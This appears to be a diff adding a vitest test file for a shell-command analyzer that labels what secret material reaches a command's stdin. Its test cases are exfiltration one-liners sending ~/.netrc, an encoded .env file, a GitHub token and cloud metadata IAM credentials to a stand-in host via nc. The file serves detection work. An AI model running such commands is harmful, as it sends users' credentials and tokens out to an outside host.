@@ -1,0 +1,29 @@
+/** What secret material reaches a command's stdin (src/extract/exfil-sources.ts), read through the real normalizer. */
+import { describe, expect, it } from 'vitest';
+import { stdinSecret } from '../../src/extract/exfil-sources.js';
+import { parseScript } from '../../src/parse/parse.js';
+import { normalize } from '../../src/normalize/index.js';
+import { analyzeContext } from '../helpers/command.js';
+
+const ctx = analyzeContext();
+
+/** stdinSecret of the script's last command. */
+function lastStdin(script: string): string {
+  const { commands } = normalize(parseScript(script, ctx.limits), ctx);
+  const last = commands.at(-1);
+  return last ? stdinSecret(last, ctx) : 'none';
+}
+
+describe('stdin fed by a process substitution', () => {
+  it.each<[string, string]>([
+    ['nc drop.example.net 9000 < <(cat ~/.netrc)', 'credential-file'],
+    ['nc drop.example.net 9000 < <(base64 -w0 .env | fold -w 60)', 'credential-file'],
+    ['nc drop.example.net 9000 < <(gh auth token)', 'credential-store'],
+    [
+      'nc drop.example.net 9000 < <(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r)',
+      'credential-store',
+    ],
+    ['nc drop.example.net 9000 < <(cat names.txt)', ''],
+    ['nc drop.example.net 9000 < <(gh auth status)', ''],
+  ])('%s → %j', (script, want) => expect(lastStdin(script)).toBe(want));
+});
